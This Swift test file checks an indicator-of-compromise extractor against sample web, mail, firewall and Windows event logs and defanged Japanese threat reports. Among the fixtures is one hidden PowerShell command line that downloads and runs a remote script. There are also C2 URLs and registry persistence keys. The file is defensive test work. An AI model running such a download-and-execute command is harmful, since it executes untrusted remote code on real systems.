import DeskCore
import Testing

/// Whole logs and reports, as they are pasted.
@Suite struct IndicatorLogTests {
  private func found(_ text: String) -> [String] { IndicatorTests.found(text) }

  @Test func `an Apache log`() {
    let log = """
      203.0.113.7 - - [20/Nov/2026:03:12:45 +0900] "GET /wp-login.php?to=https%3A%2F%2Fshop.example%2F \
      HTTP/1.1" 200 4521 \
      "http://evil.example/ref.html" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
      Chrome/120.0.0.0 Safari/537.36"
      2001:db8::dead:beef - - [20/Nov/2026:03:12:46 +0900] "POST /data/api/upload.php HTTP/1.1" 404 0 \
      "-" "curl/8.1.2"
      """
    #expect(
      found(log) == [
        "ipv4 203.0.113.7", "domain shop.example", "url http://evil.example/ref.html",
        "ipv6 2001:db8::dead:beef",
      ])
  }

  @Test func `a Postfix log`() {
    let log = """
      Nov 20 03:12:45 mx1 postfix/smtpd[2210]: connect from unknown[198.51.100.23]
      Nov 20 03:12:46 mx1 postfix/cleanup[2214]: 4F1A2B3C4D5E: \
      message-id=<20261120031246.4F1A2B3C4D5E@mx1.aoba.example>
      Nov 20 03:12:46 mx1 postfix/qmgr[1999]: 4F1A2B3C4D5E: from=<billing@port-notice.example>, \
      size=48211, nrcpt=1
      Nov 20 03:12:47 mx1 postfix/smtp[2220]: 4F1A2B3C4D5E: to=<soumu@aoba.example>, \
      relay=mail.aoba.example[192.0.2.25]:25, \
      delay=1.2, dsn=2.0.0, status=sent (250 2.0.0 OK 1763575967 d9443c01a7336-2984c2)
      """
    #expect(
      found(log) == [
        "ipv4 198.51.100.23", "email billing@port-notice.example", "email soumu@aoba.example",
        "domain mail.aoba.example",
        "ipv4 192.0.2.25",
      ])
  }

  @Test func `a firewall's log`() {
    let log = """
      Nov 20 2026 03:12:45 fw1 : %ASA-6-106100: access-list OUT permitted tcp inside/192.0.2.10(51234) \
      -> outside/203.0.113.99(443)
      %ASA-4-106023: Deny tcp src outside:198.51.100.77/22 dst inside:192.0.2.5/22 by access-group "OUTSIDE"
      03:12:45.123456 IP 192.0.2.10.51234 > 203.0.113.99.443: Flags [S], seq 1 win 64240
      """
    #expect(
      found(log) == ["ipv4 192.0.2.10", "ipv4 203.0.113.99", "ipv4 198.51.100.77", "ipv4 192.0.2.5"])
  }

  @Test func `events of Windows, in Japanese and English`() {
    let log = """
      EventID: 4688  New Process Name:\tC:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe  \
      Creator Process ID: 0x1f4
      Process Command Line:\tpowershell.exe -nop -w hidden -c "IEX (New-Object \
      Net.WebClient).DownloadString('http://192.0.2.80:8080/a.ps1')"
      Security ID: S-1-5-21-1004336348-1177238915-682003330-512 Logon GUID: \
      {3f2504e0-4f89-11d3-9a0c-0305e82c3301}
      ソース ネットワーク アドレス:\t203.0.113.45  ソース ポート: 51234
      サービスのファイル名: %SystemRoot%\\Temp\\svc.exe -k netsvcs
      TargetObject: HKU\\S-1-5-21-1-2-3-500\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater
      """
    #expect(
      found(log) == [
        "file-path C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "url http://192.0.2.80:8080/a.ps1",
        "ipv4 203.0.113.45", "file-path %SystemRoot%\\Temp\\svc.exe",
        "registry-key HKU\\S-1-5-21-1-2-3-500\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
      ])
  }

  @Test func `a report of an endpoint product, defanged`() {
    let report = """
      検知: Trojan:Win32/Wacatac.B!ml  パス: C:\\Users\\田中 太郎\\Downloads\\請求書_20261120.zip  SHA1: \
      DA39A3EE5E6B4B0D3255BFEF95601890AFD80709
      ・C2: hxxps[://]update[.]cdn-sync[.]example[:]8443/gate[.]php
      ・通信先　１９８．５１．１００．２００　（ＡＳ６４４９６）　ネットワーク 203[.]0[.]113[.]0/24
      ・メール送信元　ｂｉｌｌ＠ｅｖｉｌ．ｅｘａｍｐｌｅ　添付: 請求書.docx
      ・永続化: HKCU\\Software\\Classes\\CLSID\\{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}\\InprocServer32 \
      HKLM\\SYSTEM\\Select
      ・悪用された脆弱性: CVE-2026-12345、cve-2026-12345
      """
    #expect(
      found(report) == [
        "file-path C:\\Users\\田中 太郎\\Downloads\\請求書_20261120.zip",
        "sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "url https://update.cdn-sync.example:8443/gate.php", "ipv4 198.51.100.200", "asn AS64496",
        "cidr 203.0.113.0/24", "email bill@evil.example",
        "registry-key HKCU\\Software\\Classes\\CLSID\\{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}\\InprocServer32",
        "registry-key HKLM\\SYSTEM\\Select", "cve CVE-2026-12345",
      ])
  }

  @Test func `the report of a sector group`() {
    let report = """
      送信元: yotei-henko@port-notice[.]example
      IP: 192[.]0[.]2[.]145 / 198[.]51[.]100[.]23 / 203[.]0[.]113[.]0/28 (AS64500)
      ドメイン: cdn[.]port-notice[.]example、berth-update[.]example
      URL: hxxps://cdn[.]port-notice[.]example/v2/idx.php?u=
      ファイル: C:\\ProgramData\\PortSync\\psync.dll
      """
    #expect(
      found(report) == [
        "email yotei-henko@port-notice.example", "ipv4 192.0.2.145", "ipv4 198.51.100.23",
        "cidr 203.0.113.0/28",
        "asn AS64500", "domain cdn.port-notice.example", "domain berth-update.example",
        "url https://cdn.port-notice.example/v2/idx.php?u=",
        "file-path C:\\ProgramData\\PortSync\\psync.dll",
      ])
  }
}
